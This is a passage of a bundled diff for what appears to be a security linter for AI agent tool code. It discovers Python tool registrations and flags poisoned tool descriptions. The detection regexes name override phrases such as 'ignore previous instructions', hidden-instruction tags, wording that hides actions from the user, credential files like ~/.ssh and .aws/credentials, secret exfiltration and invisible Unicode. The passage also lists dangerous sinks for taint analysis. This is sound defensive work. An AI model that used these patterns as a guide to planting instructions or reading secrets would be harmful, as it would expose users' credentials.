+      return { framework: "langchain", name: stringValue(nameNode, this.mod)?.text, registration: call, handlerRef: ref, description: desc, useDocstring: !desc, texts: stringsUnder(argsNode, [desc?.node, ref]) };
+    }
+    return null;
+  }
+  fromClasses(classes) {
+    const known = /* @__PURE__ */ new Map();
+    const out2 = [];
+    for (let pass = 0; pass < 2; pass++) {
+      for (const cls of classes) {
+        const className = cls.childForFieldName("name")?.text ?? "";
+        if (known.has(className)) continue;
+        let fw = null;
+        for (const base of cls.childForFieldName("superclasses")?.namedChildren ?? []) {
+          if (!base || base.type === "keyword_argument") continue;
+          const text = base.text;
+          const simple = text.split(".").pop() ?? "";
+          const head = text.split(".")[0];
+          const b = this.libOfBinding(head);
+          const lib = base.type === "identifier" ? b.lib : b.imp?.name === null ? b.lib : null;
+          const imported = base.type === "identifier" ? b.imported : simple;
+          if (known.has(text)) fw = known.get(text);
+          else if (imported === "BaseTool") {
+            if (lib === "crewai") fw = "crewai";
+            else if (lib === "langchain") fw = "langchain";
+            else if (!lib) fw = this.mod.libs.has("crewai") ? "crewai" : this.mod.libs.has("langchain") ? "langchain" : b.imp ? null : "langchain";
+          } else if (imported === "Tool") {
+            if (lib === "smolagents" || !b.imp && this.mod.libs.has("smolagents")) fw = "smolagents";
+          }
+          if (fw) break;
+        }
+        if (!fw) continue;
+        known.set(className, fw);
+        const body2 = cls.childForFieldName("body");
+        const attrs = classAttributes(body2);
+        const name2 = stringValue(attrs.get("name"), this.mod)?.text ?? className;
+        const desc = stringValue(attrs.get("description"), this.mod);
+        const methods = fw === "smolagents" ? ["forward"] : ["_run", "_arun"];
+        const texts = fw === "smolagents" ? stringsUnder(attrs.get("inputs")) : [];
+        for (const m of body2?.namedChildren ?? []) {
+          const fn = m?.type === "decorated_definition" ? m.childForFieldName("definition") : m;
+          if (fn?.type !== "function_definition" || !methods.includes(functionName(fn))) continue;
+          out2.push({
+            framework: fw,
+            name: name2,
+            registration: cls,
+            handlerRef: fn,
+            description: desc,
+            useDocstring: !desc,
+            params: { skipNames: ["run_manager", "callbacks"] },
+            texts
+          });
+        }
+      }
+    }
+    return out2;
+  }
+  async build(c, lowLevelTexts) {
+    const resolved = await this.resolveFunction(c.handlerRef);
+    if (!resolved) return null;
+    const { view, fn } = resolved;
+    const params = parametersOf(view.file, fn, c.params);
+    let description;
+    if (c.description) description = { text: c.description.text, path: this.file.path, range: rangeOfNode(this.file, c.description.node) };
+    else if (c.useDocstring) {
+      const doc = docstringOf(fn);
+      const value = doc ? stringValue(doc) : null;
+      if (doc && value) description = { text: cleanDoc(value.text), path: view.file.path, range: rangeOfNode(view.file, doc) };
+    }
+    const texts = [...c.texts ?? [], ...c.framework === "mcp-python-lowlevel" ? lowLevelTexts : []];
+    const modelTexts = [];
+    for (const t of texts) {
+      const v = stringValue(t, this.mod);
+      if (v && v.text.trim()) modelTexts.push({ text: v.text, path: this.file.path, range: rangeOfNode(this.file, t) });
+    }
+    for (const s of stringsUnder(fn.childForFieldName("parameters"))) {
+      const v = stringValue(s);
+      if (v && v.text.trim()) modelTexts.push({ text: v.text, path: view.file.path, range: rangeOfNode(view.file, s) });
+    }
+    return {
+      framework: c.framework,
+      language: "python",
+      name: c.name ?? (fn.type === "lambda" ? "<lambda>" : functionName(fn)),
+      registration: { path: this.file.path, range: rangeOfNode(this.file, c.registration) },
+      handler: { path: view.file.path, startIndex: fn.startIndex, endIndex: fn.endIndex, range: rangeOfNode(view.file, fn) },
+      parameters: params,
+      ...description ? { description } : {},
+      ...modelTexts.length ? { modelTexts } : {}
+    };
+  }
+  /** The function a reference names: inline, defined in this file, or imported from a repository module. */
+  async resolveFunction(ref) {
+    if (ref.type === "function_definition" || ref.type === "lambda") return { view: this.mod.view, fn: ref };
+    if (ref.type === "identifier") {
+      const local = findFunction2(this.mod.view.root, ref.text);
+      if (local) return { view: this.mod.view, fn: local };
+      const imp = this.mod.imports.get(ref.text);
+      if (imp?.name) return findInModule(this.project, this.file.path, imp.module, imp.level, imp.name, 0);
+      return null;
+    }
+    if (ref.type === "attribute") {
+      const obj = ref.childForFieldName("object");
+      const attr = ref.childForFieldName("attribute")?.text;
+      if (obj?.type !== "identifier" || !attr) return null;
+      const imp = this.mod.imports.get(obj.text);
+      if (!imp) return null;
+      const modulePath = imp.name === null ? imp.module : imp.module ? `${imp.module}.${imp.name}` : imp.name;
+      return findInModule(this.project, this.file.path, modulePath, imp.level, attr, 0);
+    }
+    return null;
+  }
+};
+function classAttributes(body2) {
+  const out2 = /* @__PURE__ */ new Map();
+  for (const st of body2?.namedChildren ?? []) {
+    if (st?.type !== "expression_statement") continue;
+    const a = st.namedChildren[0];
+    if (a?.type !== "assignment") continue;
+    const left = a.childForFieldName("left");
+    const right = a.childForFieldName("right");
+    if (left?.type === "identifier" && right) out2.set(left.text, right);
+  }
+  return out2;
+}
+function findFunction2(root, name2) {
+  for (const n of root.namedChildren) {
+    const fn = n?.type === "decorated_definition" ? n.childForFieldName("definition") : n;
+    if (fn?.type === "function_definition" && functionName(fn) === name2) return fn;
+  }
+  let found = null;
+  walk2(root, (n) => {
+    if (found) return false;
+    if (n.type === "function_definition" && functionName(n) === name2) {
+      found = n;
+      return false;
+    }
+    return true;
+  });
+  if (found) return found;
+  const value = moduleAssignment(root, name2);
+  return value?.type === "lambda" ? value : null;
+}
+function dispatchedNames2(fn) {
+  const params = fn.childForFieldName("parameters")?.namedChildren ?? [];
+  const first = params[0];
+  const nameParam = first?.type === "identifier" ? first.text : first?.namedChildren[0]?.type === "identifier" ? first.namedChildren[0].text : first?.childForFieldName("name")?.text;
+  if (!nameParam) return null;
+  const names = [];
+  walk2(fn, (n) => {
+    if (n.type === "comparison_operator") {
+      const kids = n.namedChildren;
+      if (kids.length === 2 && kids.some((k) => k?.type === "identifier" && k.text === nameParam)) {
+        const s = kids.find((k) => k?.type === "string");
+        const v = s ? stringValue(s) : null;
+        if (v) names.push(v.text);
+      }
+    } else if (n.type === "match_statement" && n.childForFieldName("subject")?.text === nameParam) {
+      for (const s of n.descendantsOfType("case_pattern")) {
+        const str2 = s?.namedChildren.find((k) => k?.type === "string");
+        const v = str2 ? stringValue(str2) : null;
+        if (v) names.push(v.text);
+      }
+    }
+    return true;
+  });
+  return names.length ? [...new Set(names)].join("|") : null;
+}
+async function resolvePyModule(project, fromPath, module2, level) {
+  const paths = await pathSet(project);
+  const rel = module2.split(".").filter(Boolean).join("/");
+  const candidatesFor = (base) => base ? [`${base}.py`, `${base}/__init__.py`] : ["__init__.py"];
+  if (level > 0) {
+    let dir = dirOf(fromPath);
+    for (let i2 = 1; i2 < level && dir !== null; i2++) dir = joinPath(dir, "..");
+    if (dir === null) return null;
+    for (const c of candidatesFor(joinPath(dir, rel) ?? "")) {
+      const p = joinPath("", c);
+      if (p && paths.has(p)) return p;
+    }
+    return null;
+  }
+  if (!rel) return null;
+  const matches2 = [];
+  for (const c of candidatesFor(rel)) {
+    if (paths.has(c)) return c;
+    for (const p of paths) if (p.endsWith(`/${c}`)) matches2.push(p);
+  }
+  if (!matches2.length) return null;
+  const score = (p) => {
+    const a = p.split("/");
+    const b = fromPath.split("/");
+    let i2 = 0;
+    while (i2 < a.length && i2 < b.length && a[i2] === b[i2]) i2++;
+    return i2 * 1e3 - p.length;
+  };
+  return matches2.sort((x, y) => score(y) - score(x))[0];
+}
+async function findInModule(project, fromPath, module2, level, name2, depth) {
+  if (depth > 3) return null;
+  const target = await resolvePyModule(project, fromPath, module2, level);
+  if (target) {
+    const view = await parsedModule(project, target);
+    if (view) {
+      const fn = findFunction2(view.root, name2);
+      if (fn) return { view, fn };
+      const mod = analyse(view);
+      const imp = mod.imports.get(name2);
+      if (imp?.name) return findInModule(project, target, imp.module, imp.level, imp.name, depth + 1);
+    }
+  }
+  return null;
+}
+async function discoverPython(file, root, project) {
+  const text = file.text;
+  if (!/tool|Tool|call_tool/.test(text)) return [];
+  return new PythonDiscovery(file, { file, root }, project).run();
+}
+
+// src/tools/discover.ts
+async function discoverTools(file, tree, project) {
+  const handlers = tree.language === "python" ? await discoverPython(file, tree.root, project) : await discoverJavaScript(file, tree.language, tree.root, project);
+  return sortHandlers(handlers);
+}
+function toolsOfFile(ctx) {
+  return ctx.memo("tools", async () => {
+    if (!ctx.file.isCode) return [];
+    const tree = await ctx.tree();
+    if (!tree) return [];
+    return discoverTools(ctx.file, tree, ctx.project);
+  });
+}
+
+// src/rules/tool-input/poisoned-description.ts
+var meta = {
+  id: "tool-input/poisoned-description",
+  family: "tool-input",
+  severity: "error",
+  description: "A tool description or docstring carries instructions aimed at the model (hidden-instruction tags, concealment from the user, requests for secrets or files, invisible Unicode).",
+  fix: "Describe only what the tool does and its parameters; remove instructions to the model, hidden tags and invisible characters.",
+  messages: {
+    poisoned: 'The {{where}} of tool "{{tool}}" carries instructions aimed at the model: {{what}}.'
+  }
+};
+var TAG = /<\s*\/?\s*(important|hidden|system|secret|instructions?|admin|override|sudo|system[-_ ]?prompt|note[-_ ]to[-_ ](?:ai|assistant|model|llm))\s*>|<\|\s*(?:im_start|im_end|system|endoftext)\s*\|>|\[\s*\/?(?:system|inst|hidden|important)\s*\]/gi;
+var CONCEAL = [
+  /\b(?:do\s*n[o']?t|don't|never|must\s+not|should\s+not|shall\s+not)\s+(?:ever\s+)?(?:tell|inform|notify|alert|warn)\s+(?:the\s+)?(?:user|human|operator)s?\b/i,
+  /\b(?:do\s*n[o']?t|don't|never|must\s+not|should\s+not)\s+(?:ever\s+)?(?:mention|reveal|disclose|tell|say)\s+(?:that|this|it|anything|these\s+instructions|the\s+(?:instructions?|sidenote|file|tag))\b/i,
+  /\bwithout\s+(?:telling|informing|notifying|alerting|asking)\s+(?:the\s+)?(?:user|human|operator)/i,
+  /\b(?:hide|conceal)\s+(?:this|it|these|that|the\s+fact)\b[^.\n]{0,30}\bfrom\s+(?:the\s+)?(?:user|human|operator)/i,
+  /\bkeep\s+(?:this|it|these\s+instructions)\s+(?:secret|hidden|private)\b/i,
+  /\b(?:user|human)\s+(?:must|should|need)\s+not\s+(?:know|see|notice|be\s+told)/i
+];
+var OVERRIDE = [
+  /\b(?:ignore|disregard|forget|override)\s+(?:all\s+|any\s+)?(?:of\s+)?(?:the\s+|your\s+)?(?:previous|prior|above|earlier|preceding|other|system|original|existing)\s+(?:instructions?|prompts?|rules|directions|guidelines|messages)/i,
+  /\bnew\s+system\s+prompt\b/i
+];
+var STRONG_FILE = /(~\/\.ssh\b[^\s'"`]*|\.ssh\/[^\s'"`]*|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|~\/\.aws\b[^\s'"`]*|\.aws\/credentials|\/etc\/shadow|\bmcp\.json\b|~\/\.cursor\b[^\s'"`]*|\.git-credentials|\.netrc\b|\.pypirc\b|\.npmrc\b|\.kube\/config|\.docker\/config\.json|\.gnupg\b|\bwallet\.dat\b|\.bash_history)/i;
+var WEAK_FILE = /((?:^|[\s'"`(~/])\.env\b(?:\.[a-z]+)?|\/etc\/passwd)/i;
+var IMPERATIVE = /\b(?:read|cat|open|include|pass|send|provide|attach|upload|copy|append|output|print|share|extract|access|fetch|retrieve|forward|leak|post|exfiltrate|collect|dump|add|load)\b/i;
+var PASS_ON = /\b(?:pass|send|include|upload|post|forward|attach|append|sidenote|leak|exfiltrate)\b|\bas\s+(?:the\s+)?['"`]?\w+['"`]?\s+(?:parameter|argument|field)|\b(?:before|after)\s+(?:using|calling)\b/i;
+var SECRETS = /\b(?:read|include|pass|send|provide|share|reveal|extract|collect|copy|append|attach|leak|forward|output|print|dump|exfiltrate)\b[^.\n]{0,40}?\b(?:all|any|every|the\s+user'?s|user'?s|their|other|system|environment)\b[^.\n]{0,30}?\b(?:api[\s_-]?keys?|secrets?|credentials?|passwords?|private[\s_-]?keys?|ssh[\s_-]?keys?|access[\s_-]?tokens?|auth(?:entication)?[\s_-]?tokens?|session[\s_-]?(?:tokens?|cookies?)|env(?:ironment)?[\s_-]?var(?:iable)?s)\b/i;
+var OTHER_TOOLS = [
+  /\b(?:when|if|whenever|while)\s+this\s+tool\s+is\s+(?:available|present|loaded|enabled|installed)\b/i,
+  /\b(?:read|include|pass|send|forward|copy|append|extract|leak|collect)\b[^.\n]{0,40}?\b(?:other|another|all\s+other|previous|every)\s+tools?(?:'s|')?\s+(?:outputs?|results?|responses?|data|arguments?|parameters?|inputs?|credentials?|tokens?|descriptions?)\b/i
+];
+var REDIRECT = /\b(?:must|should|always)\s+(?:also\s+)?(?:send|forward|bcc|cc|redirect|copy|post)\b[^.\n]{0,60}?\b(?:to)\b[^.\n]{0,40}?(?:[\w.+-]+@[\w-]+\.[\w.]+|https?:\/\/\S+)/i;
+var INVISIBLE = /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/g;
+function snippet(s) {
+  const one = s.replace(/\s+/g, " ").trim();
+  return one.length > 60 ? `${one.slice(0, 57)}...` : one;
+}
+function poisonSigns(text) {
+  const out2 = [];
+  const tags = /* @__PURE__ */ new Set();
+  for (const m of text.matchAll(TAG)) tags.add(m[0].replace(/\s+/g, "").replace("</", "<").toUpperCase());
+  for (const t of tags) out2.push({ kind: "hidden-tag", text: `hidden-instruction tag ${t}` });
+  for (const re of CONCEAL) {
+    const m = re.exec(text);
+    if (m) {
+      out2.push({ kind: "conceal", text: `an instruction to keep something from the user ("${snippet(m[0])}")` });
+      break;
+    }
+  }
+  for (const re of OVERRIDE) {
+    const m = re.exec(text);
+    if (m) {
+      out2.push({ kind: "override", text: `an instruction to override the model's instructions ("${snippet(m[0])}")` });
+      break;
+    }
+  }
+  const files = /* @__PURE__ */ new Set();
+  for (const sentence of text.split(/(?<=[.!?])\s+|\n+/)) {
+    if (!IMPERATIVE.test(sentence)) continue;
+    const strong = STRONG_FILE.exec(sentence);
+    if (strong) files.add(strong[1].trim());
+    const weak = WEAK_FILE.exec(sentence);
+    if (weak && PASS_ON.test(sentence)) files.add(weak[1].trim().replace(/^[('"`]/, ""));
+  }
+  if (files.size) out2.push({ kind: "sensitive-file", text: `a request to read ${[...files].join(", ")}` });
+  const secrets = SECRETS.exec(text);
+  if (secrets) out2.push({ kind: "secrets", text: `a request for secrets ("${snippet(secrets[0])}")` });
+  for (const re of OTHER_TOOLS) {
+    const m = re.exec(text);
+    if (m) {
+      out2.push({ kind: "other-tools", text: `an instruction about other tools ("${snippet(m[0])}")` });
+      break;
+    }
+  }
+  const redirect = REDIRECT.exec(text);
+  if (redirect) out2.push({ kind: "redirect", text: `an instruction to send data elsewhere ("${snippet(redirect[0])}")` });
+  const invisible = [...new Set([...text.matchAll(INVISIBLE)].map((m) => m[0].codePointAt(0)))];
+  if (invisible.length) {
+    const tagChars = [...text].filter((c) => c.codePointAt(0) >= 917536 && c.codePointAt(0) <= 917630);
+    const hidden = tagChars.length ? `, hiding the text "${snippet(tagChars.map((c) => String.fromCharCode(c.codePointAt(0) - 917504)).join(""))}"` : "";
+    const listed = invisible.filter((cp) => cp < 917504 || cp > 917631).map((cp) => `U+${cp.toString(16).toUpperCase().padStart(4, "0")}`);
+    const parts2 = [...new Set(listed)];
+    if (tagChars.length || invisible.some((cp) => cp >= 917504)) parts2.push("Unicode tag characters");
+    out2.push({ kind: "invisible-unicode", text: `invisible or bidirectional Unicode (${parts2.join(", ")})${hidden}` });
+  }
+  return out2;
+}
+var rule = {
+  meta,
+  appliesTo: (file) => file.isCode && /tool|Tool/.test(file.text),
+  async check(ctx) {
+    const seen = /* @__PURE__ */ new Set();
+    for (const handler of await toolsOfFile(ctx)) {
+      const texts = [];
+      if (handler.description) texts.push({ ...handler.description, where: "description" });
+      for (const t of handler.modelTexts ?? []) texts.push({ ...t, where: "schema text" });
+      for (const t of texts) {
+        const key = `${t.path}:${t.range.startLine}:${t.range.startColumn}:${t.range.endLine}:${t.range.endColumn}`;
+        if (seen.has(key)) continue;
+        seen.add(key);
+        const signs = poisonSigns(t.text);
+        if (!signs.length) continue;
+        ctx.report({
+          messageId: "poisoned",
+          data: { tool: handler.name, where: t.where, what: signs.map((s) => s.text).join("; ") },
+          range: t.range,
+          ...t.path !== ctx.file.path ? { path: t.path } : {},
+          fingerprintHint: `${handler.framework}:${handler.name}:${t.where}:${signs.map((s) => s.kind).join(",")}`
+        });
+      }
+    }
+  }
+};
+
+// src/tools/sinks.ts
+var analyzer = null;
+function registerSinkAnalyzer(fn) {
+  analyzer = fn;
+}
+function hasSinkAnalyzer() {
+  return analyzer !== null;
+}
+async function sinksReachedBy(handler, project) {
+  if (!analyzer) return [];
+  const found = await analyzer(handler, project);
+  const seen = /* @__PURE__ */ new Set();
+  const out2 = [];
+  for (const s of found) {
+    const key = `${s.path}\0${s.line}\0${s.ruleId}\0${s.sink}`;
+    if (seen.has(key)) continue;
+    seen.add(key);
+    out2.push(s);
+  }
+  return out2.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0) || a.line - b.line || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) || (a.sink < b.sink ? -1 : a.sink > b.sink ? 1 : 0));
+}
+
+// src/taint/core.ts
+var MAX_CALL_DEPTH = 4;
+function withStep(t, step, patch = {}) {
+  return { ...t, ...patch, steps: step ? [...t.steps, step] : t.steps };
+}
+function markSafe(t, kinds) {
+  const safe = new Set(t.safe);
+  for (const k of kinds) safe.add(k);
+  return { ...t, safe };
+}
+function combine(parts2) {
+  const tainted = parts2.filter((p) => !!p);
+  if (tainted.length === 0) return null;
+  if (tainted.length === 1) return tainted[0];
+  const first = tainted.find((t) => t.safe.size === 0) ?? tainted[0];
+  const safe = new Set([...tainted[0].safe].filter((k) => tainted.every((t) => t.safe.has(k))));
+  return { ...first, safe, sqlBuilt: tainted.some((t) => t.sqlBuilt) || void 0 };
+}
+var ALL_KINDS = ["path", "command", "argument", "code", "sql", "ssrf", "deserialization"];
+var Scope = class _Scope {
+  constructor(parent) {
+    this.parent = parent;
+  }
+  parent;
+  vars = /* @__PURE__ */ new Map();
+  /** `ok = is_allowed(x)`: the condition an identifier stands for. */
+  predicates = /* @__PURE__ */ new Map();
+  /** `u = urlparse(x)` / `rel = path.relative(root, x)`: derived value → the variable it was derived from. */
+  derived = /* @__PURE__ */ new Map();
+  /** List variables that already hold a `--` element. */
+  dashDash = /* @__PURE__ */ new Set();
+  /** Variables holding an HTTP client/session object. */
+  httpClients = /* @__PURE__ */ new Set();
+  /** Variables holding a database connection/cursor. */
+  dbHandles = /* @__PURE__ */ new Set();
+  get(name2) {
+    if (this.vars.has(name2)) return this.vars.get(name2);
+    return this.parent?.get(name2);
+  }
+  set(name2, t) {
+    this.vars.set(name2, t);
+  }
+  copy() {
+    const s = new _Scope(this.parent);
+    s.vars = new Map(this.vars);
+    s.predicates = new Map(this.predicates);
+    s.derived = new Map(this.derived);
+    s.dashDash = new Set(this.dashDash);
+    s.httpClients = new Set(this.httpClients);
+    s.dbHandles = new Set(this.dbHandles);
+    return s;
+  }
+  /** Merge of the scopes of the branches that fall through (at least one). */
+  static merge(scopes) {
+    if (scopes.length === 1) return scopes[0];
+    const out2 = scopes[0].copy();
+    const names = /* @__PURE__ */ new Set();
+    for (const s of scopes) for (const k of s.vars.keys()) names.add(k);
+    for (const name2 of names) {
+      const values = scopes.map((s) => s.get(name2));
+      const tainted = values.filter((v) => !!v);
+      if (tainted.length === 0) {
+        out2.vars.set(name2, values.find((v) => v !== void 0) ?? null);
+        continue;
+      }
+      const first = tainted.find((t) => t.safe.size === 0) ?? tainted[0];
+      const safe = new Set([...tainted[0].safe].filter((k) => tainted.every((t) => t.safe.has(k))));
+      out2.vars.set(name2, { ...first, safe });
+    }
+    for (const s of scopes.slice(1)) {
+      for (const [k, v] of s.predicates) out2.predicates.set(k, v);
+      for (const [k, v] of s.derived) out2.derived.set(k, v);
+      for (const k of s.dashDash) out2.dashDash.add(k);
+      for (const k of s.httpClients) out2.httpClients.add(k);
+      for (const k of s.dbHandles) out2.dbHandles.add(k);
+    }
+    return out2;
+  }
+};
+function parsedFile(project, path2) {
+  return project.memo(`taint:parsed:${path2}`, async () => {
+    const file = await project.getFile(path2);
+    if (!file || !file.isCode) return null;
+    const parsed = await parseCode(file.language, file.text);
+    return parsed ? { file, parsed } : null;
+  });
+}
+function nodeKey(ref) {
+  return `${ref.pf.file.path}:${ref.node.startIndex}:${ref.node.endIndex}`;
+}
+function taintKey(t) {
+  if (!t) return "-";
+  return JSON.stringify([
+    t.origin.handler.name,
+    t.origin.handler.handler.path,
+    t.origin.param.name,
+    t.label,
+    [...t.safe].sort(),
+    t.container ?? null,
+    !!t.hostFixed,
+    !!t.prefixFixed,
+    !!t.sqlBuilt,
+    t.argv ?? null
+  ]);
+}
+function rangeOf(pf, node) {
+  return pf.file.rangeOf(node.startIndex, node.endIndex);
+}
+function stepAt(pf, node, message) {
+  return { path: pf.file.path, range: rangeOf(pf, node), message };
+}
+function snippet2(node, max = 60) {
+  const t = node.text.replace(/\s+/g, " ");
+  return t.length > max ? `${t.slice(0, max - 1)}\u2026` : t;
+}
+function regexAllowsLeadingDash(pattern) {
+  const stripped = pattern.replace(/([A-Za-z0-9])-([A-Za-z0-9])/g, "$1$2");
+  return stripped.includes("-") || /\\S|\.|\[\^/.test(stripped);
+}
+function regexIsAnchored(pattern) {
+  return /^(\^|\\A)/.test(pattern) && /(\$|\\Z|\\z)$/.test(pattern);
+}
+function regexIsRestrictive(pattern) {
+  const body2 = pattern.replace(/^(\^|\\A)/, "").replace(/(\$|\\Z|\\z)$/, "");
+  if (/(^|[^\\])\.|\\S|\[\^/.test(body2)) return false;
+  return true;
+}
+
+// src/taint/js-catalogue.ts
+function jsLiteralString(node) {
+  if (!node) return null;
+  if (node.type === "string") return node.namedChildren.map((c) => c.text).join("");
+  if (node.type === "template_string" && !node.namedChildren.some((c) => c?.type === "template_substitution")) return node.namedChildren.map((c) => c.text).join("");
+  return null;
+}
+function normaliseModule(name2) {
+  let n = name2.replace(/^node:/, "");
+  n = n.replace(/^fs\/promises/, "fs").replace(/^fs\.promises(?=\.|$)/, "fs").replace(/^fs-extra(?=\.|$)/, "fs").replace(/^graceful-fs(?=\.|$)/, "fs");
+  n = n.replace(/^fs\.default(?=\.|$)/, "fs");
+  return n;
+}
+var FS_METHODS = /* @__PURE__ */ new Map([
+  ["readFile", [0]],
+  ["writeFile", [0]],
+  ["appendFile", [0]],
+  ["unlink", [0]],
+  ["rm", [0]],
+  ["rmdir", [0]],
+  ["mkdir", [0]],
+  ["readdir", [0]],
+  ["opendir", [0]],
+  ["createReadStream", [0]],
+  ["createWriteStream", [0]],
+  ["copyFile", [0, 1]],
+  ["cp", [0, 1]],
+  ["rename", [0, 1]],
+  ["open", [0]],
+  ["symlink", [0, 1]],
+  ["link", [0, 1]],
+  ["truncate", [0]],
+  ["chmod", [0]],
+  ["chown", [0]],
+  ["readlink", [0]],
+  // fs-extra
+  ["remove", [0]],
+  ["outputFile", [0]],
+  ["outputJson", [0]],
+  ["readJson", [0]],
+  ["readJSON", [0]],
+  ["writeJson", [0]],
+  ["writeJSON", [0]],
+  ["copy", [0, 1]],
+  ["move", [0, 1]],
+  ["emptyDir", [0]],
+  ["ensureDir", [0]],
+  ["ensureFile", [0]],
+  ["mkdirp", [0]],
+  ["mkdirs", [0]]
+]);
+var HTTP_FUNCS = /* @__PURE__ */ new Set([
+  "fetch",
+  "globalThis.fetch",
+  "window.fetch",
+  "node-fetch",
+  "cross-fetch",
+  "undici.fetch",
+  "undici.request",
+  "undici.stream",
+  "axios",
+  "axios.get",
+  "axios.post",
+  "axios.put",
+  "axios.patch",
+  "axios.delete",
+  "axios.head",
+  "axios.options",
+  "axios.request",
+  "got",
+  "got.get",
+  "got.post",
+  "got.put",
+  "got.delete",
+  "got.patch",
+  "got.stream",
+  "ky",
+  "ky.get",
+  "ky.post",
+  "superagent.get",
+  "superagent.post",
+  "needle.get",
+  "http.get",
+  "http.request",
+  "https.get",
+  "https.request"
+]);
+var SHELL_STRING = /* @__PURE__ */ new Set(["child_process.exec", "child_process.execSync", "execa.execaCommand", "execa.execaCommandSync", "execa.command", "execa.commandSync", "shelljs.exec"]);
+var ARGV_EXEC = /* @__PURE__ */ new Set(["child_process.spawn", "child_process.spawnSync", "child_process.execFile", "child_process.execFileSync", "execa", "execa.execa", "execa.execaSync", "execa.sync", "cross-spawn", "cross-spawn.sync"]);
+var CODE_FUNCS = /* @__PURE__ */ new Set(["eval", "globalThis.eval", "Function", "new Function", "vm.runInNewContext", "vm.runInThisContext", "vm.runInContext", "vm.compileFunction", "new vm.Script", "vm.Script", "import", "require", "setTimeout", "setInterval"]);
+var DESER_FUNCS = /* @__PURE__ */ new Set(["node-serialize.unserialize", "serialize.unserialize", "v8.deserialize", "funcster.deepDeserialize", "cryo.parse"]);
+var SQL_METHODS = /* @__PURE__ */ new Set(["query", "execute", "raw", "$queryRawUnsafe", "$executeRawUnsafe", "unsafe", "queryRaw", "executeRaw"]);
+var SQL_GENERIC_METHODS = /* @__PURE__ */ new Set(["run", "all", "get", "exec", "prepare", "each", "many", "one", "none", "any", "oneOrNone", "manyOrNone"]);
+var DB_NAME = /(^|[._])(db|database|conn|connection|client|pool|sqlite|knex|sequelize|prisma|tx|trx|stmt|sql|pg|mysql|duckdb|d1)$/i;
+function optionsHaveShell(args2) {
+  return args2.some((a) => a.node.type === "object" && a.node.namedChildren.some((p) => p?.type === "pair" && p.childForFieldName("key")?.text === "shell" && p.childForFieldName("value")?.type !== "false"));
+}
+function objectProp(node, key) {
+  if (node.type !== "object") return null;
+  for (const p of node.namedChildren) {
+    if (p?.type === "pair" && p.childForFieldName("key")?.text.replace(/['"]/g, "") === key) return p.childForFieldName("value");
+    if (p?.type === "shorthand_property_identifier" && p.text === key) return p;
+  }
+  return null;
+}
+function sinks(q) {
+  const out2 = [];
+  const c = q.canon ?? "";
+  const hit = (kind, sink, a) => {
+    if (a?.t) out2.push({ kind, sink, taint: a.t, arg: a.node });
+  };
+  const fsm = /^fs\.(\w+?)(Sync)?$/.exec(c);
+  if (fsm && FS_METHODS.has(fsm[1])) for (const i2 of FS_METHODS.get(fsm[1])) hit("path", `fs.${fsm[1]}${fsm[2] ?? ""}()`, q.args[i2]);
+  if (c === "Bun.file" || c === "Bun.write" || /^Deno\.(readTextFile|readFile|writeTextFile|writeFile|remove|readDir)$/.test(c)) hit("path", `${c}()`, q.args[0]);
+  if (SHELL_STRING.has(c)) hit("command", `${c.replace(/^child_process\./, "child_process.")}()`, q.args[0]);
+  if (ARGV_EXEC.has(c) || ARGV_EXEC.has(c.replace(/\(\)$/, ""))) {
+    const shell = optionsHaveShell(q.args);
+    const [cmd, argv] = q.args;
+    if (shell) {
+      for (const a of [cmd, argv]) if (a?.t) out2.push({ kind: "command", sink: `${c}() with shell: true`, taint: a.t, arg: a.node });
+    } else {
+      if (cmd?.t) out2.push({ kind: "command", sink: `${c}() program name`, taint: cmd.t, arg: cmd.node });
+      if (argv?.t && argv.node.type !== "object") {
+        const dd = argv.t.argv?.afterDashDash || argv.node.type === "identifier" && q.scope.dashDash.has(argv.node.text) && false;
+        if (!dd && !argv.t.prefixFixed) out2.push({ kind: "argument", sink: `${c}() argv`, taint: argv.t, arg: argv.node });
+      }
+    }
+  }
+  if (q.tagged && (c === "zx.$" || c === "$" || c === "execa.$" || c === "bun.$" || c === "Bun.$")) hit("command", `${c} template`, q.args[0]);
+  if (CODE_FUNCS.has(c)) {
+    if ((c === "setTimeout" || c === "setInterval") && q.args[0]?.node.type !== "template_string" && q.args[0]?.node.type !== "binary_expression") {
+    } else if (c === "new Function" || c === "Function") {
+      for (const a of q.args) hit("code", "new Function()", a);
+    } else hit("code", c === "import" ? "dynamic import()" : `${c}()`, q.args[0]);
+  }
+  if (q.method && q.receiverNode && !q.tagged) {
+    const recv = q.receiverNode.text;
+    const dbLike = DB_NAME.test(recv.replace(/\(.*$/, "")) || q.scope.dbHandles.has(recv);
+    if (SQL_METHODS.has(q.method) || SQL_GENERIC_METHODS.has(q.method) && dbLike) {
+      const a = q.args[0];
+      if (a?.t?.sqlBuilt) out2.push({ kind: "sql", sink: `${recv.split(".").pop()}.${q.method}()`, taint: a.t, arg: a.node });
+    }
+  }
+  if (HTTP_FUNCS.has(c) || HTTP_FUNCS.has(c.replace(/\.default$/, ""))) {
+    const first = q.args[0];
+    let a = first;
+    if (first && first.node.type === "object") {
+      const u = objectProp(first.node, "url") ?? objectProp(first.node, "hostname") ?? objectProp(first.node, "host");
+      a = u ? { node: u, t: first.t } : void 0;
+    }
+    if (a?.t && !a.t.hostFixed && a.t.container === void 0) out2.push({ kind: "ssrf", sink: `${c}()`, taint: a.t, arg: a.node });
+  }
+  if (DESER_FUNCS.has(c)) hit("deserialization", `${c}()`, q.args[0]);
+  return out2;
+}
+var JS = {
+  sinks,
+  safeTags: /(^|\.)(sql|SQL|\$queryRaw|\$executeRaw|raw\$|html|css|gql|graphql)$/,
+  sanitizers: /* @__PURE__ */ new Map([
+    ["Number", "all"],
+    ["parseInt", "all"],
+    ["parseFloat", "all"],
+    ["Number.parseInt", "all"],
+    ["Number.parseFloat", "all"],
+    ["Boolean", "all"],
+    ["Math.floor", "all"],
+    ["isNaN", "all"],
+    ["encodeURIComponent", ["path", "argument", "command"]],
+    ["path.basename", ["path", "argument"]],
+    ["shell-quote.quote", ["command"]],
+    ["shell-escape", ["command"]],
+    ["shellEscape", ["command"]],
+    ["fs.existsSync", "all"],
+    ["crypto.createHash", "all"],
+    ["escapeshellarg", ["command"]]
+  ]),
+  sanitizerMethods: /* @__PURE__ */ new Map([
+    ["length", "all"],
+    ["digest", "all"]
+  ]),
